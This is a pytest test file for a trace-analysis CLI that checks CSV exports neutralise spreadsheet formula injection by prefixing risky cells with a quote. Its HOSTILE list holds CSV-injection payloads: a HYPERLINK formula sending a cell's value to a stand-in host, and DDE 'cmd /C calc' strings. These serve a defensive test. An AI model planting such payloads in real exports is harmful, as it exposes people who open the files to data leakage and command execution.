"""CSV output neutralises cells a spreadsheet would run (issue 39; OWASP "CSV Injection"):
a text cell starting with = + - @ tab or CR gets a leading ', so `=HYPERLINK(...)` from a
kernel name or a results file is shown as text when the CSV is opened. Numbers, and texts
that are exactly a number, are never changed; JSON keeps the text exactly."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from cclq.cli.app import app
from cclq.ingest.run import ingest
from cclq.store.warehouse import Warehouse
from cclq.synth.kineto import KinetoTraceBuilder

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tcmd",
    "\rcmd",
]
PLAIN = ["gemm_kernel", "a=b", "x-1"]  # a formula sign inside a text is no formula


@pytest.fixture(scope="module")
def wh(tmp_path_factory: pytest.TempPathFactory) -> Warehouse:
    root = tmp_path_factory.mktemp("csv")
    b = KinetoTraceBuilder(rank=0, world_size=1)
    for i, name in enumerate(HOSTILE + PLAIN):
        b.kernel(name, 1_000 + 10_000 * i, 5_000)
    b.write(root / "in" / "t" / "rank0.json")
    warehouse = Warehouse(root / "wh")
    assert not ingest([root / "in"], warehouse, jobs=1).failed
    return warehouse


def _csv(*args: str) -> list[dict[str, str]]:
    result = CliRunner().invoke(app, [*args, "--no-cache"] if args[0] == "metric" else list(args))
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout)))


def test_sql_csv_neutralises_formulas_and_keeps_numbers(wh: Warehouse):
    rows = _csv(
        "sql",
        "SELECT name, -1.5 AS neg, '-2' AS neg_text, '+1e5' AS plus_text, -3 AS neg_int FROM kernels ORDER BY ts_ns",
        "-w",
        str(wh.root),
        "-f",
        "csv",
    )
    assert [r["name"] for r in rows] == ["'" + n for n in HOSTILE] + PLAIN
    assert {(r["neg"], r["neg_text"], r["plus_text"], r["neg_int"]) for r in rows} == {("-1.5", "-2", "+1e5", "-3")}
    # JSON is for programs: the text exactly as it is
    result = CliRunner().invoke(
        app, ["sql", "SELECT name FROM kernels ORDER BY ts_ns", "-w", str(wh.root), "-f", "json"]
    )
    assert [r["name"] for r in json.loads(result.stdout)] == HOSTILE + PLAIN


def test_metric_csv_neutralises_formulas(wh: Warehouse, tmp_path: Path):
    rows = _csv("metric", "hta_kernel_breakdown", "--all", "-w", str(wh.root), "-f", "csv")
    names = {r["name"] for r in rows if r["name"]}
    assert {"'" + n for n in HOSTILE} <= names and not any(n.startswith(tuple("=+-@\t\r")) for n in names)
    # a folder of one file per metric too
    result = CliRunner().invoke(
        app,
        [
            "metric",
            "hta_kernel_breakdown",
            "total_kernel_time",
            "--all",
            "-w",
            str(wh.root),
            "-o",
            str(tmp_path / "out"),
            "--no-cache",
        ],
    )
    assert result.exit_code == 0, result.output
    text = (tmp_path / "out" / "hta_kernel_breakdown.csv").read_text()
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text and ',"=HYPERLINK' not in text


def test_csv_cell():
    from cclq.present.render import csv_cell

    assert [csv_cell(v) for v in (-1.5, -3, "-2", "+1e5", "-.5", "1-2", None, "")] == [
        -1.5,
        -3,
        "-2",
        "+1e5",
        "-.5",
        "1-2",
        None,
        "",
    ]
    assert [csv_cell(v) for v in ("=1+2", "-1+2", "@x", "+x", "\t1", "\r1", "-")] == [
        "'=1+2",
        "'-1+2",
        "'@x",
        "'+x",
        "'\t1",
        "'\r1",
        "'-",
    ]
